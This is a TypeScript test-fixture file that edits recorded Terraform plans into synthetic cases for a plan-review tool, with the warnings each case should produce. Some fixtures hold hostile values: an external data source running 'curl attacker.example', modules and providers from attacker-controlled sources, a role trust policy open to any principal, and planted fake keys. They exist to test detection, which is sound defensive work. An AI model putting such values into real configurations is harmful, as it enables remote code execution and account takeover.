import type { Json } from "./plan-edits";
import { readPlans } from "./plan-archives";

/** A recorded plan with changes that the installed Terraform cannot plan offline. */
export interface SyntheticPlan {
  /** Name of the recorded plan, in the archive `ordinary-plans`. @default "nothing-changed" */
  readonly from?: string;
  /** Edits the JSON of the plan. */
  readonly edit: (plan: Json) => void;
  readonly expect: readonly string[];
}

const AWS = "registry.terraform.io/hashicorp/aws";
const NOTIFY = "aws_lambda_invoke.notify";
const PARTNER = "arn:aws:iam::111122223333:role/partner";
const ROLE = "aws_iam_role.deployer";

/** An invocation of an action, as Terraform 1.14 writes it. */
const INVOCATION = {
  address: `action.${NOTIFY}`,
  type: "aws_lambda_invoke",
  name: "notify",
  config_values: { function_name: "notify", payload: "{}", region: null },
  config_sensitive: {},
  config_unknown: {},
  provider_name: AWS,
};
const TRIGGERED = {
  ...INVOCATION,
  lifecycle_action_trigger: {
    triggering_resource_address: ROLE,
    action_trigger_event: "AfterUpdate",
    action_trigger_block_index: 0,
    actions_list_index: 0,
  },
};

/** Returns the change of the resource at an address. */
function findChange(plan: Json, address: string): { change: Json } & Json {
  const changes = plan.resource_changes as ({ change: Json } & Json)[];
  const found = changes.find((one) => one.address === address);
  if (found === undefined) throw new Error(`no change of ${address}`);
  return found;
}

function findChangeByType(plan: Json, type: string): { change: Json } & Json {
  const changes = plan.resource_changes as ({ change: Json } & Json)[];
  const found = changes.find((one) => one.type === type);
  if (found === undefined) throw new Error(`no change of ${type}`);
  return found;
}

/** Updates attributes of the first resource of a type. */
function updateFirst(type: string, before: Json, after: Json) {
  return (plan: Json): void => {
    const { change } = findChangeByType(plan, type);
    Object.assign(change.before as Json, before);
    Object.assign(change.after as Json, after);
    change.actions = ["update"];
  };
}

function getRootModule(plan: Json): Json {
  return (plan.configuration as { root_module: Json }).root_module;
}

function addConfiguration(plan: Json, resource: Json): void {
  (getRootModule(plan).resources as Json[]).push(resource);
}

function getProviders(plan: Json): Record<string, Json> {
  return (plan.configuration as { provider_config: Record<string, Json> })
    .provider_config;
}

/** Adds a data source whose provider cannot be installed offline. */
function addDataSource(type: string, expressions: Json, provider: string) {
  return (plan: Json): void => {
    const address = `data.${type}.read`;
    const full_name = `registry.terraform.io/hashicorp/${provider}`;
    addConfiguration(plan, {
      address,
      mode: "data",
      type,
      name: "read",
      provider_config_key: provider,
      expressions,
      schema_version: 0,
    });
    getProviders(plan)[provider] = { name: provider, full_name };
    const values = (
      plan.prior_state as { values: { root_module: { resources: Json[] } } }
    ).values;
    values.root_module.resources.push({
      address,
      mode: "data",
      type,
      name: "read",
      provider_name: full_name,
      schema_version: 0,
      values: { id: "-", result: { ok: "true" } },
      sensitive_values: {},
    });
  };
}

function setTerraformVersion(version: string, plan: Json): void {
  plan.terraform_version = version;
}

function setCheck(status: string) {
  return (plan: Json): void => {
    plan.checks = [
      ...((plan.checks ?? []) as readonly unknown[]),
      {
        address: { kind: "check", name: "health", to_display: "check.health" },
        status,
        instances: [
          {
            address: { to_display: "check.health" },
            status,
            ...(status === "fail" && {
              problems: [{ message: "The sign-in page does not answer." }],
            }),
          },
        ],
      },
    ];
  };
}

/** Plans that cannot be recorded. */
export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
  "action-triggered": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      plan.action_invocations = [TRIGGERED];
      getRootModule(plan).actions = [
        {
          address: NOTIFY,
          type: "aws_lambda_invoke",
          name: "notify",
          provider_config_key: "aws",
        },
      ];
    },
    expect: ["not reviewed: action aws_lambda_invoke.notify after an update"],
  },
  "action-invoked": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      plan.action_invocations = [{ ...INVOCATION, invoke_action_trigger: {} }];
      plan.resource_changes = [];
    },
    expect: ["not reviewed: action aws_lambda_invoke.notify"],
  },
  "action-in-module": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      plan.action_invocations = [
        {
          ...TRIGGERED,
          address: `module.auth["dev"].action.${NOTIFY}`,
          config_values: {},
          config_unknown: { payload: true },
        },
      ];
    },
    expect: ["not reviewed: action of module.auth, its payload unknown"],
  },
  "action-with-secret": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      plan.action_invocations = [
        {
          ...TRIGGERED,
          config_values: { payload: "planted-in-json-55e1" },
          config_sensitive: { payload: true },
        },
      ];
    },
    expect: ["not reviewed: action aws_lambda_invoke.notify", "no secret"],
  },
  "deferred-change": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      const deferred = findChange(plan, ROLE);
      deferred.change.actions = ["update"];
      plan.deferred_changes = [
        { reason: "resource_config_unknown", resource_change: deferred },
      ];
      plan.resource_changes = (plan.resource_changes as Json[]).filter(
        (one) => one !== deferred,
      );
      plan.complete = false;
    },
    expect: ["not reviewed: a deferred change of role deployer"],
  },
  "deferred-instances": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      plan.deferred_changes = [
        {
          reason: "instance_count_unknown",
          resource_change: {
            address: "aws_iam_role.editors[*]",
            mode: "managed",
            type: "aws_iam_role",
            name: "editors",
            index_unknown: true,
            provider_name: AWS,
            change: {
              actions: ["create"],
              before: null,
              after: {},
              after_unknown: { arn: true },
              before_sensitive: false,
              after_sensitive: {},
            },
          },
        },
      ];
      plan.complete = false;
    },
    expect: ["not reviewed: a deferred creation of roles"],
  },
  "deferred-action": {
    edit: (plan) => {
      setTerraformVersion("1.14.0", plan);
      plan.deferred_action_invocations = [
        { reason: "deferred_prereq", action_invocation: TRIGGERED },
      ];
      plan.complete = false;
    },
    expect: ["not reviewed: a deferred action"],
  },
  "check-failed": {
    edit: setCheck("fail"),
    expect: ["check health fails"],
  },
  "check-with-error": {
    edit: setCheck("error"),
    expect: ["check health cannot be evaluated"],
  },
  "check-not-known": {
    edit: setCheck("unknown"),
    expect: ["check health: known only after apply"],
  },
  "data-external": {
    edit: addDataSource(
      "external",
      { program: { constant_value: ["sh", "-c", "curl attacker.example"] } },
      "external",
    ),
    expect: ["not reviewed: data source external runs a program"],
  },
  "data-http": {
    edit: addDataSource(
      "http",
      { url: { constant_value: "https://attacker.example" } },
      "http",
    ),
    expect: ["not reviewed: data source http"],
  },
  "module-from-elsewhere": {
    edit: (plan) => {
      getRootModule(plan).module_calls = {
        auth: {
          source: "git::https://attacker.example/auth.git?ref=main",
          module: {},
        },
      };
    },
    expect: ["not reviewed: module from attacker.example"],
  },
  "module-of-registry": {
    edit: (plan) => {
      getRootModule(plan).module_calls = {
        auth: {
          source: "attacker/auth/aws",
          version_constraint: ">= 0.0.1",
          module: {},
        },
      };
    },
    expect: ["not reviewed: module attacker/auth/aws"],
  },
  "provider-of-another-source": {
    edit: (plan) => {
      Object.assign(getProviders(plan).aws ?? {}, {
        full_name: "registry.terraform.io/attacker/aws",
      });
    },
    expect: ["not reviewed: provider attacker/aws"],
  },
  "provider-of-another-kind": {
    edit: (plan) => {
      const full_name = "registry.terraform.io/hashicorp/null";
      getProviders(plan).null = { name: "null", full_name };
    },
    expect: ["not reviewed: provider hashicorp/null"],
  },
  "provider-in-module": {
    edit: (plan) => {
      getProviders(plan)["module.auth:aws"] = {
        name: "aws",
        full_name: AWS,
        module_address: "module.auth",
        expressions: {
          assume_role: [{ role_arn: { constant_value: PARTNER } }],
        },
      };
    },
    expect: ["not reviewed: the provider of module auth assumes role partner"],
  },
  "provider-keys": {
    edit: (plan) => {
      Object.assign(getProviders(plan).aws?.expressions as Json, {
        access_key: { constant_value: "AKIAIOSFODNN7PLANTED" },
        secret_key: { constant_value: "planted-provider-secret-02bd" },
      });
    },
    expect: ["not reviewed: the provider has other credentials", "no secret"],
  },
  "provider-assumes-foreign-role": {
    edit: (plan) => {
      Object.assign(getProviders(plan).aws?.expressions as Json, {
        assume_role: [{ role_arn: { constant_value: PARTNER } }],
      });
    },
    expect: ["not reviewed: the provider assumes role partner"],
  },
  "provider-of-foreign-account": {
    edit: (plan) => {
      getProviders(plan)["aws.other"] = {
        name: "aws",
        full_name: AWS,
        alias: "other",
        expressions: {
          assume_role: [{ role_arn: { constant_value: PARTNER } }],
        },
      };
      const resources = getRootModule(plan).resources as Json[];
      const role = resources.find(({ address }) => address === ROLE);
      Object.assign(role ?? {}, { provider_config_key: "aws.other" });
    },
    expect: ["not reviewed: a second provider assumes role partner"],
  },
  "provisioner-remote": {
    edit: (plan) => {
      const [first] = getRootModule(plan).resources as Json[];
      Object.assign(first ?? {}, {
        provisioners: [
          {
            type: "remote-exec",
            expressions: { inline: { constant_value: ["id"] } },
          },
          {
            type: "file",
            expressions: { destination: { constant_value: "/x" } },
          },
        ],
      });
    },
    expect: [
      "not reviewed: provisioner remote-exec",
      "not reviewed: provisioner file",
    ],
  },
  "new-attribute": {
    edit: updateFirst(
      "aws_cognito_user_pool",
      { future_setting: null },
      { future_setting: "ON" },
    ),
    expect: ["not reviewed: future_setting of aws_cognito_user_pool"],
  },
  "new-attribute-in-block": {
    edit: (plan) => {
      const { change } = findChangeByType(plan, "aws_cognito_user_pool");
      const copy = JSON.parse(JSON.stringify(change.after)) as Json;
      const [passwords = {}] = copy.password_policy as Json[];
      passwords.future_setting = true;
      Object.assign(change, { actions: ["update"], after: copy });
    },
    expect: ["not reviewed: password_policy.future_setting"],
  },
  "new-attribute-unknown": {
    edit: (plan) => {
      const { change } = findChangeByType(plan, "aws_cognito_user_pool_client");
      change.actions = ["update"];
      change.after_unknown = { future_setting: true };
    },
    expect: ["not reviewed: future_setting of aws_cognito_user_pool_client"],
  },
  "new-type": {
    edit: (plan) => {
      (plan.resource_changes as Json[]).push({
        address: "aws_cognito_terms.main",
        mode: "managed",
        type: "aws_cognito_terms",
        name: "main",
        provider_name: AWS,
        change: {
          actions: ["create"],
          before: null,
          after: { terms_name: "terms" },
          after_unknown: { id: true },
          before_sensitive: false,
          after_sensitive: {},
        },
      });
    },
    expect: ["not reviewed: aws_cognito_terms"],
  },
  "new-kind-of-action": {
    edit: (plan) => {
      findChange(plan, ROLE).change.actions = ["future"];
    },
    expect: ["not reviewed: change future of role deployer"],
  },
  "create-and-forget": {
    edit: (plan) => {
      const { change } = findChangeByType(plan, "aws_cognito_user_pool");
      change.actions = ["create", "forget"];
    },
    expect: ["user pool is replaced, the old one is no longer managed"],
  },
  "sensitive-policy": {
    edit: (plan) => {
      const { change } = findChange(plan, ROLE);
      const trust = JSON.parse(
        String((change.after as Json).assume_role_policy),
      ) as { Statement: Json[] };
      trust.Statement.push({
        Effect: "Allow",
        Action: "sts:AssumeRole",
        Principal: "*",
      });
      Object.assign(change, {
        actions: ["update"],
        after: {
          ...(change.after as Json),
          assume_role_policy: JSON.stringify(trust),
        },
        after_sensitive: { assume_role_policy: true },
      });
    },
    expect: ["role deployer: everyone in AWS can assume it"],
  },
  "without-complete": {
    edit: (plan) => {
      plan.complete = undefined;
    },
    expect: ["the plan does not state whether it is complete"],
  },
  "without-configuration": {
    edit: (plan) => {
      plan.configuration = undefined;
    },
    expect: ["not reviewed: the plan has no configuration"],
  },
};

const RECORDED = readPlans("ordinary-plans");

/** Builds the JSON text of a synthetic plan. */
export function buildSyntheticPlan({
  from = "nothing-changed",
  edit,
}: SyntheticPlan): string {
  const text = RECORDED[from];
  if (text === undefined) throw new Error(`no recorded plan ${from}`);
  const plan = JSON.parse(text) as Json;
  edit(plan);
  return JSON.stringify(plan);
}
